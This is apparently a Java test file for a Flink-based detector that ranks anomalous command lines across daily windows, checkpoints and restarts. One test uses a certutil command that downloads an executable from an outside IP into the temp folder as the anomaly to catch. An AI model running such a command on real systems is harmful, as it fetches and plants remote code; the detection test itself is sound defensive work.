package dev.longtail.detectors.flink;

import static dev.longtail.detectors.window.Commands.NEW_YEAR;
import static dev.longtail.detectors.window.Commands.seen;
import static org.assertj.core.api.Assertions.assertThat;

import dev.longtail.detectors.forest.IsolationForestDetector;
import dev.longtail.detectors.ranking.Combination;
import dev.longtail.detectors.ranking.ScoredCommand;
import dev.longtail.detectors.ranking.ShardRanker;
import dev.longtail.detectors.window.DetectorWindows;
import dev.longtail.detectors.window.FunnelStage;
import dev.longtail.detectors.window.HashRankSample;
import dev.longtail.detectors.window.Line;
import dev.longtail.detectors.window.SampleSize;
import dev.longtail.detectors.window.SampleWindow;
import dev.longtail.detectors.window.SampledCommand;
import dev.longtail.detectors.window.ShardWindow;
import dev.longtail.detectors.window.Sighting;
import dev.longtail.udfs.testing.Any;
import dev.longtail.udfs.testing.Property;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Comparator;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.IntStream;
import org.apache.flink.runtime.checkpoint.OperatorSubtaskState;
import org.apache.flink.streaming.api.watermark.Watermark;
import org.apache.flink.streaming.runtime.watermarkstatus.WatermarkStatus;
import org.apache.flink.streaming.util.AbstractStreamOperatorTestHarness;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DetectFunctionTest {
  private static final long DAY = Duration.ofDays(1).toMillis();
  private static final int TOP = 5;

  @Test
  void sendsTheTopOfAWindowWhenItCloses() throws Exception {
    try (var shard = open()) {
      shard.sendAll(events(NEW_YEAR, 60));
      shard.send(seen("certutil -urlcache -f http://203.0.113.9/x.exe %TEMP%\\x.exe", NEW_YEAR));
      assertThat(shard.results()).isEmpty();
      shard.watermark(NEW_YEAR + DAY - 1);
      assertThat(shard.results()).hasSize(TOP).isSortedAccordingTo(ScoredCommand.RANKING);
      assertThat(shard.results().get(0).command().commandLine()).startsWith("certutil");
      assertThat(shard.funnel(FunnelStage.UNIQUE)).isEqualTo(61);
      assertThat(shard.funnel(FunnelStage.REPEATED)).isZero();
      assertThat(shard.timers()).isZero();
    }
  }

  @Test
  void theFirstWindowIsAWarmUpAndSaysSo() throws Exception {
    try (var shard = open()) {
      shard.sendAll(events(NEW_YEAR, 60));
      shard.watermark(NEW_YEAR + DAY - 1);
      assertThat(shard.funnel(FunnelStage.RANKED)).isEqualTo(50);
      assertThat(shard.funnel(FunnelStage.WARM_UP)).isEqualTo(10);
    }
    try (var shard = open()) {
      shard.sendAll(events(NEW_YEAR, 20));
      shard.watermark(NEW_YEAR + DAY - 1);
      shard.sendAll(events(NEW_YEAR + DAY, 60));
      shard.watermark(NEW_YEAR + 2 * DAY - 1);
      assertThat(shard.funnel(FunnelStage.RANKED)).isEqualTo(50);
      assertThat(shard.funnel(FunnelStage.WARM_UP)).isZero();
    }
  }

  @Test
  void countsRepeatedAndLateEvents() throws Exception {
    try (var shard = open()) {
      shard.send(seen("ls", NEW_YEAR));
      shard.send(seen("ls", NEW_YEAR + 1));
      shard.watermark(NEW_YEAR + DAY - 1);
      shard.send(seen("ls", NEW_YEAR + 2));
      shard.send(seen("pwd", NEW_YEAR + 3));
      assertThat(shard.funnel(FunnelStage.LATE)).as("not a count an event").isZero();
      shard.clock(LateEvents.DELAY.toMillis());
      assertThat(shard.aside(SideOutputs.LATE))
          .containsExactly(seen("ls", NEW_YEAR + 2), seen("pwd", NEW_YEAR + 3));
      assertThat(shard.funnel(FunnelStage.UNIQUE)).isEqualTo(1);
      assertThat(shard.funnel(FunnelStage.REPEATED)).isEqualTo(1);
      assertThat(shard.funnel(FunnelStage.LATE)).isEqualTo(2);
      assertThat(shard.results()).hasSize(1);
    }
  }

  @Test
  void aWindowThatWasClosedBeforeARestartStaysClosed() throws Exception {
    OperatorSubtaskState checkpoint;
    try (var shard = open()) {
      shard.send(seen("ls", NEW_YEAR));
      shard.watermark(NEW_YEAR + DAY - 1);
      checkpoint = shard.checkpoint();
    }
    try (var restarted = open(checkpoint)) {
      restarted.send(seen("pwd", NEW_YEAR + 1));
      restarted.clock(LateEvents.DELAY.toMillis());
      assertThat(restarted.funnel(FunnelStage.LATE)).isEqualTo(1);
      assertThat(restarted.timers()).isZero();
    }
  }

  /**
   * Sources begin anew with earlier watermarks. What stands behind got results of a closed window,
   * and failed in every restart from then on.
   */
  @Test
  void anEarlierFirstWatermarkAfterARestartReopensNothing() throws Exception {
    Duration outOfOrder = Duration.ofMinutes(10);
    OperatorSubtaskState checkpoint;
    OperatorSubtaskState ranked;
    RankFunction rank =
        new RankFunction(DetectorWindows.DAILY, WindowClosing.ON_WATERMARK, TOP, Combination.EACH);
    try (var shard = open();
        var behind = WindowedHarness.keyed(rank, Combination.EACH::keyOf, null)) {
      shard.sendAll(events(NEW_YEAR, 30));
      shard.send(seen("quarter past", NEW_YEAR + DAY + minutes(15)));
      shard.watermark(NEW_YEAR + DAY + minutes(15) - outOfOrder.toMillis() - 1);
      behind.sendAll(shard.results());
      behind.watermark(shard.watermarks().get(0));
      assertThat(behind.results()).hasSize(TOP);
      checkpoint = shard.checkpoint();
      ranked = behind.checkpoint();
    }
    try (var shard = open(checkpoint);
        var behind = WindowedHarness.keyed(rank, Combination.EACH::keyOf, ranked)) {
      shard.send(seen("six past", NEW_YEAR + DAY + minutes(6)));
      shard.watermark(NEW_YEAR + DAY + minutes(6) - outOfOrder.toMillis() - 1);
      shard.send(seen("two to", NEW_YEAR + DAY - minutes(2)));
      shard.send(seen("twenty past", NEW_YEAR + DAY + minutes(20)));
      shard.watermark(NEW_YEAR + DAY + minutes(20) - outOfOrder.toMillis() - 1);
      shard.clock(LateEvents.DELAY.toMillis());
      assertThat(shard.results()).isEmpty();
      assertThat(shard.funnel(FunnelStage.LATE)).isOne();
      assertThat(shard.watermarks())
          .containsExactly(NEW_YEAR + DAY + minutes(20) - outOfOrder.toMillis() - 1);

      shard.watermark(NEW_YEAR + 2 * DAY - 1);
      behind.sendAll(shard.results());
      behind.watermark(NEW_YEAR + 2 * DAY - 1);
      assertThat(behind.results()).hasSize(3);
      assertThat(behind.funnel(FunnelStage.LATE_RESULTS)).isZero();
    }
  }

  @Property(tries = 50)
  void aWatermarkNeverGoesBackHoweverOftenItIsRestarted(Any any) throws Exception {
    List<Long> sent = new ArrayList<>();
    OperatorSubtaskState checkpoint = null;
    for (int run = 0; run < 4; run++) {
      try (var shard = open(checkpoint)) {
        for (int i = any.between(0, 5); i > 0; i--) {
          shard.watermark(NEW_YEAR + any.between(0, 1000));
          shard.status(any.of(WatermarkStatus.IDLE, WatermarkStatus.ACTIVE));
        }
        sent.addAll(shard.watermarks());
        assertThat(shard.sent()).allMatch(Watermark.class::isInstance);
        checkpoint = shard.checkpoint();
      }
    }
    assertThat(sent).isSorted().doesNotHaveDuplicates();
  }

  /** Whoever drains a job closes the day; its rest must not be ranked as if it were the day. */
  @Test
  void theRestOfADrainedDayIsLate() throws Exception {
    OperatorSubtaskState checkpoint;
    try (var shard = open()) {
      shard.send(seen("ls", NEW_YEAR + DAY));
      shard.watermark(NEW_YEAR + DAY + 1);
      shard.watermark(Long.MAX_VALUE);
      assertThat(shard.results()).hasSize(1);
      assertThat(shard.watermarks()).endsWith(Long.MAX_VALUE);
      checkpoint = shard.checkpoint();
    }
    for (int restart = 0; restart < 2; restart++) {
      try (var restarted = open(checkpoint)) {
        restarted.send(seen("pwd", NEW_YEAR + 2 * DAY - 1));
        restarted.watermark(Long.MAX_VALUE);
        assertThat(restarted.results()).isEmpty();
        assertThat(restarted.funnel(FunnelStage.LATE)).isEqualTo(restart + 1);
        checkpoint = restarted.checkpoint();
      }
    }
  }

  /** The drain closes a window in one shard only; the others must know of it. */
  @Test
  void whatOneSubtaskHasClosedIsClosedForAll() throws Exception {
    OperatorSubtaskState with;
    OperatorSubtaskState without;
    try (var shard = open();
        var other = open()) {
      shard.send(seen("ls", NEW_YEAR));
      for (var each : List.of(shard, other)) {
        each.watermark(NEW_YEAR + 1);
        each.watermark(Long.MAX_VALUE);
      }
      with = shard.checkpoint();
      without = other.checkpoint();
    }
    OperatorSubtaskState both =
        AbstractStreamOperatorTestHarness.repartitionOperatorState(
            AbstractStreamOperatorTestHarness.repackageState(without, with), 1, 2, 1, 0);
    try (var restarted = open(both)) {
      restarted.send(seen("pwd", NEW_YEAR + 2));
      assertThat(restarted.aside(SideOutputs.LATE)).hasSize(1);
    }
  }

  @Test
  void lateEventsAreCountedAWindowAndNoneIsForgottenByARestart() throws Exception {
    long now = NEW_YEAR + 3000 * DAY;
    OperatorSubtaskState checkpoint;
    try (var shard = open()) {
      shard.watermark(now);
      for (int i = 0; i < 500; i++) {
        shard.send(seen("yesterday " + i, now - DAY + i));
        shard.send(seen("in 1970 and after " + i, i * DAY));
      }
      shard.clock(LateEvents.DELAY.toMillis());
      assertThat(shard.aside(SideOutputs.FUNNEL)).as("a count a window").hasSize(2);
      assertThat(shard.aside(SideOutputs.FUNNEL).get(1).window()).isEqualTo("unknown");
      assertThat(shard.total(FunnelStage.LATE)).isEqualTo(1000);
      shard.send(seen("yesterday again", now - DAY));
      assertThat(shard.total(FunnelStage.LATE)).isEqualTo(1000);
      checkpoint = shard.checkpoint();
    }
    try (var restarted = open(checkpoint)) {
      restarted.send(seen("and again", now - DAY));
      restarted.watermark(Long.MAX_VALUE);
      assertThat(restarted.aside(SideOutputs.FUNNEL))
          .singleElement()
          .satisfies(count -> assertThat(count.count()).isEqualTo(502));
    }
  }

  @Test
  void theNumbersOfWindowsLongGoneLeaveTheState() throws Exception {
    try (var shard = open()) {
      shard.watermark(NEW_YEAR + 10 * DAY);
      for (int day = 0; day < 10; day++) {
        shard.send(seen("late", NEW_YEAR + day * DAY));
      }
      shard.clock(LateEvents.DELAY.toMillis());
      int before = shard.stateEntries();
      shard.watermark(NEW_YEAR + (LateEvents.NAMED_WINDOWS + 20) * DAY);
      shard.send(seen("late", NEW_YEAR));
      shard.clock(2 * LateEvents.DELAY.toMillis());
      assertThat(shard.total(FunnelStage.LATE)).isEqualTo(11);
      shard.send(seen("late", NEW_YEAR + 9 * DAY));
      shard.clock(3 * LateEvents.DELAY.toMillis());
      assertThat(shard.total(FunnelStage.LATE)).isEqualTo(12);
      assertThat(shard.stateEntries()).isLessThanOrEqualTo(before);
      assertThat(shard.timers()).isZero();
    }
  }

  /** The day before is open: in a pool of 50 there were as many candidates as commands. */
  @Test
  void memoryIsBoundedWhileTheDayBeforeIsOpen() throws Exception {
    DetectFunction function = function(WindowClosing.ON_WATERMARK, null);
    try (var shard = WindowedHarness.shard(function, null)) {
      shard.sendAll(events(NEW_YEAR, 60));
      shard.watermark(NEW_YEAR + DAY - 2);
      List<Sighting> next = events(NEW_YEAR + DAY, 1000);
      for (Sighting event : next) {
        shard.send(event);
        assertThat(function.candidates()).isLessThanOrEqualTo(60 + 4 * 50);
      }
      assertThat(function.candidates()).isGreaterThanOrEqualTo(60 + 3 * 50);
      shard.watermark(NEW_YEAR + DAY - 1);
      assertThat(function.candidates()).isLessThanOrEqualTo(4 * 50);
      shard.sendAll(next.subList(0, 100));
      shard.watermark(NEW_YEAR + 2 * DAY - 1);
      assertThat(function.candidates()).isZero();
      assertThat(shard.funnel(FunnelStage.UNIQUE)).isEqualTo(1000);
      assertThat(shard.funnel(FunnelStage.REPEATED)).isEqualTo(100);
      assertThat(shard.funnel(FunnelStage.RANKED)).isEqualTo(50);
      assertThat(shard.funnel(FunnelStage.CAPPED)).isEqualTo(1000 - 3 * 50);
    }
  }

  @Test
  void inTheWarmUpTheCapChangesNothing() throws Exception {
    List<ScoredCommand> results = new ArrayList<>();
    for (boolean open : List.of(true, false)) {
      try (var shard = open()) {
        shard.watermark(open ? NEW_YEAR - 2 : NEW_YEAR);
        shard.sendAll(events(NEW_YEAR, 1000));
        shard.watermark(NEW_YEAR + DAY - 1);
        assertThat(shard.funnel(FunnelStage.WARM_UP)).isEqualTo(950);
        assertThat(shard.funnel(FunnelStage.CAPPED)).isZero();
        results.addAll(shard.results());
      }
    }
    assertThat(results.subList(0, TOP)).isEqualTo(results.subList(TOP, 2 * TOP));
  }

  @Test
  void whoGoesOnFromADrainedJobBeginsANewStream() throws Exception {
    OperatorSubtaskState checkpoint;
    try (var shard = open()) {
      shard.send(seen("ls", NEW_YEAR));
      shard.watermark(Long.MAX_VALUE);
      checkpoint = shard.checkpoint();
    }
    try (var restarted = open(checkpoint)) {
      restarted.send(seen("pwd", NEW_YEAR + DAY));
      restarted.watermark(NEW_YEAR + 2 * DAY - 1);
      assertThat(restarted.results()).hasSize(1);
    }
  }

  @Test
  void sendsOnAtOnceWhatMayBelongToTheSample() throws Exception {
    SampleSize half = new SampleSize(0.5, 10_000);
    List<Sighting> events = new ArrayList<>(events(NEW_YEAR, 400));
    events.addAll(events.subList(0, 100));
    try (var shard = open(WindowClosing.ON_WATERMARK, null, half)) {
      shard.sendAll(events);
      List<SampledCommand> first = shard.aside(SideOutputs.SAMPLED);
      assertThat(first).doesNotHaveDuplicates().hasSizeBetween(150, 250);
      assertThat(first).extracting(SampledCommand::sighting).isSubsetOf(events);
      shard.watermark(NEW_YEAR + DAY - 1);
      List<SampledCommand> sampled = shard.aside(SideOutputs.SAMPLED);
      assertThat(sampled).hasSizeGreaterThan(first.size());
      assertThat(shard.funnel(FunnelStage.NOT_SAMPLED)).isEqualTo(500 - occurrences(sampled));
    }
  }

  @Test
  void inBatchModeItSendsTheSampleAlone() throws Exception {
    List<Sighting> unique = events(NEW_YEAR, 3_000);
    List<Sighting> events = new ArrayList<>(unique);
    events.addAll(unique);
    try (var shard = open(WindowClosing.ON_NEXT_WINDOW, null, new SampleSize(1, 100))) {
      shard.sendAll(events);
      assertThat(shard.aside(SideOutputs.SAMPLED)).isEmpty();
      shard.send(seen("ls", NEW_YEAR + DAY));
      List<SampledCommand> sampled = shard.aside(SideOutputs.SAMPLED);
      assertThat(sampled).allMatch(SampledCommand::first);
      assertThat(sampled)
          .extracting(command -> command.sighting().hash())
          .isEqualTo(
              HashRankSample.first(unique, 100, NEW_YEAR).stream().map(Sighting::hash).toList());
      assertThat(occurrences(sampled)).isEqualTo(200);
      assertThat(shard.funnel(FunnelStage.NOT_SAMPLED)).isEqualTo(5_800);
    }
  }

  @Test
  void sendsEachUniqueCommandOnceToBeScored() throws Exception {
    OperatorSubtaskState checkpoint;
    try (var shard = scoring(WindowClosing.ON_WATERMARK, null)) {
      shard.send(seen("ls", NEW_YEAR + 5));
      shard.send(seen("ls", NEW_YEAR + 5));
      shard.send(seen("pwd", NEW_YEAR + 3));
      assertThat(shard.aside(SideOutputs.UNIQUE))
          .containsExactly(
              new SampledCommand(seen("ls", NEW_YEAR + 5), true),
              new SampledCommand(seen("pwd", NEW_YEAR + 3), true));
      checkpoint = shard.checkpoint();
    }
    try (var shard = scoring(WindowClosing.ON_WATERMARK, checkpoint)) {
      shard.send(seen("ls", NEW_YEAR + 9));
      assertThat(shard.aside(SideOutputs.UNIQUE)).isEmpty();
      shard.send(seen("ls", NEW_YEAR + DAY));
      assertThat(shard.aside(SideOutputs.UNIQUE)).hasSize(1);
    }
  }

  /** In batch mode events of one time come in any order. */
  @Test
  void inBatchModeEventsOfTheFirstTimeFollow() throws Exception {
    try (var shard = scoring(WindowClosing.ON_NEXT_WINDOW, null)) {
      for (long ts : new long[] {3, 5, 5, 6, 6}) {
        shard.send(seen(ts == 3 ? "pwd" : "ls", NEW_YEAR + ts));
      }
      shard.send(seen("pwd", NEW_YEAR + 6));
      assertThat(shard.aside(SideOutputs.UNIQUE))
          .containsExactly(
              new SampledCommand(seen("pwd", NEW_YEAR + 3), true),
              new SampledCommand(seen("ls", NEW_YEAR + 5), true),
              new SampledCommand(seen("ls", NEW_YEAR + 5), false));
    }
  }

  private static WindowedHarness<Sighting, ScoredCommand> scoring(
      WindowClosing closing, OperatorSubtaskState checkpoint) throws Exception {
    return WindowedHarness.shard(
        new DetectFunction(
            DetectorWindows.DAILY,
            closing,
            new ShardWindow.Limits(2, 1),
            null,
            null,
            4,
            DetectFunction.Told.UNIQUE),
        checkpoint);
  }

  /** Each repeated event made two hops, only to be counted. */
  @Test
  void whatIsRepeatedIsSentOnceAWindowAndBeforeItsWatermark() throws Exception {
    SampleSize all = new SampleSize(1, 10_000);
    OperatorSubtaskState checkpoint;
    try (var shard = open(WindowClosing.ON_WATERMARK, null, all)) {
      shard.send(seen("ls", NEW_YEAR + 500));
      for (int i = 0; i < 100; i++) {
        shard.send(seen("ls", NEW_YEAR + 600 - i));
      }
      shard.send(seen("pwd", NEW_YEAR));
      assertThat(shard.aside(SideOutputs.SAMPLED)).hasSize(2).allMatch(SampledCommand::first);
      checkpoint = shard.checkpoint();
    }
    try (var shard = open(WindowClosing.ON_WATERMARK, checkpoint, all)) {
      shard.send(seen("ls", NEW_YEAR + 700));
      assertThat(shard.aside(SideOutputs.SAMPLED)).isEmpty();
      shard.watermark(NEW_YEAR + DAY - 1);
      assertThat(shard.aside(SideOutputs.SAMPLED))
          .singleElement()
          .satisfies(
              repeated -> {
                assertThat(repeated.first()).isFalse();
                assertThat(repeated.sighting().occurrences()).isEqualTo(101);
                assertThat(repeated.sighting().firstSeen()).isEqualTo(NEW_YEAR + 501);
              });
      assertThat(shard.total(FunnelStage.NOT_SAMPLED)).isZero();
    }
  }

  /** However the events travel, the reduced scale gets the same sample and the same counts. */
  @Property(tries = 20)
  void theSampleIsThatOfEventsSentOneByOne(Any any) throws Exception {
    SampleSize size = new SampleSize(any.of(0.3, 1.0), any.between(2, 300));
    List<Sighting> events = new ArrayList<>(events(NEW_YEAR, 300));
    for (int i = 0; i < 600; i++) {
      Sighting again = events.get(any.between(0, 299));
      events.add(seen(again.commandLine(), again.firstSeen() + any.between(0, 999)));
    }
    Map<WindowClosing, SampleWindow> samples = new EnumMap<>(WindowClosing.class);
    for (WindowClosing closing : WindowClosing.values()) {
      try (var shard = open(closing, null, size)) {
        shard.sendAll(events);
        shard.watermark(Long.MAX_VALUE);
        SampleWindow sample = new SampleWindow(NEW_YEAR, size.ofShard(1));
        for (SampledCommand command : shard.aside(SideOutputs.SAMPLED)) {
          Line line = Line.of(command.sighting());
          sample.add(command.first() ? line.embedded("t", new float[] {1}) : line);
        }
        assertThat(sample.events() + shard.funnel(FunnelStage.NOT_SAMPLED)).isEqualTo(900);
        samples.put(closing, sample);
      }
    }
    assertThat(samples.get(WindowClosing.ON_WATERMARK).sample())
        .extracting(Line::sighting)
        .isEqualTo(
            samples.get(WindowClosing.ON_NEXT_WINDOW).sample().stream()
                .map(Line::sighting)
                .toList());
  }

  private static long occurrences(List<SampledCommand> sampled) {
    return sampled.stream().mapToLong(command -> command.sighting().occurrences()).sum();
  }

  private static long minutes(int minutes) {
    return Duration.ofMinutes(minutes).toMillis();
  }

  @ParameterizedTest
  @ValueSource(longs = {1, 2, 3})
  void neitherTheOrderOfArrivalNorARestartChangesTheResult(long shuffle) throws Exception {
    List<Sighting> events = new ArrayList<>();
    for (int day = 0; day < 3; day++) {
      events.addAll(events(NEW_YEAR + day * DAY, 200));
    }
    List<ScoredCommand> reference;
    try (var shard = open()) {
      shard.sendAll(events);
      shard.watermark(NEW_YEAR + 3 * DAY);
      reference = shard.results();
    }
    assertThat(reference).hasSize(3 * TOP);

    Collections.shuffle(events, new Random(shuffle));
    int half = events.size() / 2;
    OperatorSubtaskState checkpoint;
    try (var shard = open()) {
      shard.sendAll(events.subList(0, half));
      checkpoint = shard.checkpoint();
      shard.sendAll(events.subList(half, events.size()));
    }
    try (var restarted = open(checkpoint)) {
      restarted.sendAll(events.subList(half, events.size()));
      restarted.watermark(NEW_YEAR + 3 * DAY);
      assertThat(restarted.results()).isEqualTo(reference);
    }
  }

  @Test
  void batchModeClosesWindowsByTheNextOneWithTheSameResult() throws Exception {
    List<Sighting> events = new ArrayList<>(events(NEW_YEAR, 150));
    events.addAll(events(NEW_YEAR + DAY, 150));
    List<ScoredCommand> streaming;
    try (var shard = open()) {
      shard.sendAll(events);
      shard.watermark(Long.MAX_VALUE);
      streaming = shard.results();
    }
    try (var shard = open(WindowClosing.ON_NEXT_WINDOW, null)) {
      events.sort(Comparator.comparingLong(Sighting::firstSeen));
      shard.sendAll(events);
      assertThat(shard.results()).hasSize(TOP);
      shard.watermark(Long.MAX_VALUE);
      assertThat(shard.results()).isEqualTo(streaming);
    }
  }

  private static List<Sighting> events(long start, int count) {
    Random random = new Random(start);
    return IntStream.range(0, count)
        .mapToObj(
            i ->
                seen(
                    "/usr/bin/backup --job nightly --set " + i + "-".repeat(random.nextInt(9)),
                    start + i * 1000L))
        .toList();
  }

  private static WindowedHarness<Sighting, ScoredCommand> open() throws Exception {
    return open(null);
  }

  private static WindowedHarness<Sighting, ScoredCommand> open(OperatorSubtaskState checkpoint)
      throws Exception {
    return open(WindowClosing.ON_WATERMARK, checkpoint);
  }

  private static WindowedHarness<Sighting, ScoredCommand> open(
      WindowClosing closing, OperatorSubtaskState checkpoint) throws Exception {
    return open(closing, checkpoint, null);
  }

  private static WindowedHarness<Sighting, ScoredCommand> open(
      WindowClosing closing, OperatorSubtaskState checkpoint, SampleSize sample) throws Exception {
    return WindowedHarness.shard(function(closing, sample), checkpoint);
  }

  private static DetectFunction function(WindowClosing closing, SampleSize sample) {
    return new DetectFunction(
        DetectorWindows.DAILY,
        closing,
        new ShardWindow.Limits(64, 50),
        new ShardRanker(IsolationForestDetector.DEFAULT, 100, TOP),
        sample,
        1);
  }
}
